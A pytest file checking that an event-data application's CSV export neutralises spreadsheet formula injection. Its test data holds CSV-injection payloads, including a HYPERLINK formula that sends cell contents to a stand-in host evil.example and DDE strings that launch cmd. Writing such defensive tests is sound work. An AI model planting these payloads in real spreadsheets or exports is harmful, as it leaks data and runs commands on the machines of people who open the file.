"""Issue 16, point 8: a CSV export never hands a spreadsheet a live formula.

Actors, places and notes come from article text or an analyst; a cell starting with
= + - @ TAB or CR would run as a formula when the file is opened (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from dateline.store.export import csv_safe

HOSTILE_CELLS = {
    "actor1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "actor2": "+1+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "admin1": "-2+3",
    "notes": "\t=1+1",
}


def test_csv_export_neutralises_formulas(as_role) -> None:
    analyst = as_role("analyst")
    response = analyst.post("/api/events/1/correct", json={"values": HOSTILE_CELLS})
    assert response.status_code == 200, response.text
    exported = analyst.get("/api/events.csv", params={"country": "KE"})
    (row,) = csv.DictReader(io.StringIO(exported.text))
    for field, hostile in HOSTILE_CELLS.items():  # a correction is stored stripped
        assert row[field] == "'" + hostile.strip(), field
    # Numbers are data, not text: a negative latitude stays a number.
    assert row["latitude"] == "-1.283" and row["event_id"] == "1"


def test_json_export_keeps_the_values_as_they_are(as_role) -> None:
    analyst = as_role("analyst")
    analyst.post("/api/events/1/correct", json={"values": {"actor1": "=1+1"}})
    (event,) = analyst.get("/api/events.json", params={"country": "KE"}).json()
    assert event["actor1"] == "=1+1"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\r=1", "'\r=1"),
        ("Rebels", "Rebels"),
        ("a=b", "a=b"),
        (-1.5, -1.5),
        (None, None),
        ("", ""),
    ],
)
def test_csv_safe(value, expected) -> None:
    assert csv_safe(value) == expected
